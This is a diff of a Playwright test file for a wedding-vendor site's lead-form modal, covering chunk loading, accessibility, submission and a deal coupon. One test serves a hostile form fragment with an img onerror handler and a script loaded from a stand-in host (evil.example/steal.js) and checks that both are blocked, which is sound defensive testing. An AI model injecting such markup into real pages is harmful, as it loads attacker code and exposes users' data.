@@ -236,7 +236,7 @@ describe('each nextStep type of spec §4, driven from the stand-in', () => {
     await fillValidLead(page.locator('form.lead-form'));
     await submit(page.locator('form.lead-form'));
     await page.getByRole('dialog', { name: 'Message sent!' }).getByText('Thanks.').waitFor();
-    await page.waitForTimeout(300);
+    await page.waitForLoadState('networkidle');
     expect(await page.evaluate(() => [(window as { __pwned?: number }).__pwned, (window as { __inline?: number }).__inline])).toEqual([undefined, undefined]);
     expect(evil).toEqual([]);
     await context.close();
@@ -387,6 +387,83 @@ describe('a known e-mail and the keyboard', () => {
     await page.keyboard.press('Escape');
     await dialog.waitFor({ state: 'hidden' });
     expect(errors).toEqual([]);
+    await context.close();
+  });
+});
+
+/** The dist chunks the page fetched so far, by name. */
+function chunkRequests(page: Page): string[] {
+  const names: string[] = [];
+  page.on('request', (request) => {
+    const match = /\/chunks\/([a-z-]+)-[\w-]+\.js$/.exec(request.url());
+    if (match?.[1]) names.push(match[1]);
+  });
+  return names;
+}
+
+describe('the lead form modal', () => {
+  it('opens from a listing tile, runs only the fragment’s own scripts, and sends the lead; its code loads only then', async () => {
+    const context = await env.browser.newContext();
+    const page = await context.newPage();
+    const errors = collectErrors(page);
+    const chunks = chunkRequests(page);
+    await page.goto(`${env.url}home`);
+    await page.evaluate(() => window.mockBackend?.reset());
+    await page.goto(`${env.url}c/ca/san-francisco/wedding-photographers/6-vendors.html`);
+    await page.getByRole('banner').getByRole('button', { name: 'Log in' }).waitFor();
+    expect(chunks.filter((name) => name.startsWith('lead-form') || name === 'open-lead-form')).toEqual([]);
+
+    const cta = page.getByRole('link', { name: /^Request pricing from / }).first();
+    const vendorName = ((await cta.textContent()) ?? '').replace(/^Request pricing from /, '').trim();
+    await cta.click();
+    const dialog = page.getByRole('dialog', { name: `Message ${vendorName}` });
+    await dialog.getByLabel('Name').waitFor();
+    expect(chunks).toContain('lead-form');
+    // The layer's inline script ran (the legacy dataLayer push), from our own origin.
+    await page.waitForFunction(() => (window as unknown as { dataLayer?: { event?: string }[] }).dataLayer?.some((e) => e.event === 'leadFormShown'));
+    expect(await axeViolations(page)).toEqual([]);
+    await fillValidLead(dialog, 'tile.couple@example.com');
+    const answer = page.waitForResponse((response) => response.url().includes(RUN_PATH));
+    await submit(dialog);
+    expect(await (await answer).json()).toMatchObject({ status: true });
+    // The modal moves on to the lead's next step, on the same page.
+    await page.getByRole('dialog', { name: /^(Your message was sent to |Message sent!)/ }).waitFor();
+    expect(page.url()).toContain('6-vendors.html');
+    expect(errors).toEqual([]);
+    await context.close();
+  });
+
+  it('refuses the hostile parts of a lead form fragment: no onerror, no foreign script', async () => {
+    const context = await env.browser.newContext();
+    const page = await context.newPage();
+    const evil: string[] = [];
+    page.on('request', (request) => {
+      if (request.url().includes('evil.example')) evil.push(request.url());
+    });
+    await page.route('**/landings/form.php*', (route) =>
+      route.fulfill({
+        contentType: 'text/html',
+        body: '<section><h2>Message us</h2><form><input type="hidden" name="id_empresa" value="1000"><label for="n">Name</label><input id="n" name="Nombre"><img src="x" onerror="window.__pwned = 1"><script src="https://evil.example/steal.js"></script></form></section>',
+      }),
+    );
+    await page.goto(`${env.url}c/ca/san-francisco/wedding-photographers/6-vendors.html`);
+    await page.getByRole('link', { name: /^Request pricing from / }).first().click();
+    await page.getByRole('dialog', { name: 'Message us' }).getByLabel('Name').waitFor();
+    await page.waitForLoadState('networkidle');
+    expect(await page.evaluate(() => (window as { __pwned?: number }).__pwned)).toBeUndefined();
+    expect(evil).toEqual([]);
+    await context.close();
+  });
+
+  it('opens a storefront deal’s form and shows the coupon after the lead', async () => {
+    const { context, page } = await leadPage();
+    await page.goto(`${env.url}biz/rosewood-estate-1000.html`);
+    await page.getByRole('link', { name: 'Get this deal' }).click();
+    const dialog = page.getByRole('dialog', { name: 'Get this deal from Rosewood Estate' });
+    await dialog.getByLabel('Name').waitFor();
+    await fillValidLead(dialog, 'deal.couple@example.com');
+    await submit(dialog);
+    await page.getByRole('dialog', { name: 'Your coupon from Rosewood Estate' }).getByText(/^Code: WED-1000-1/).waitFor();
     await context.close();
   });
 });
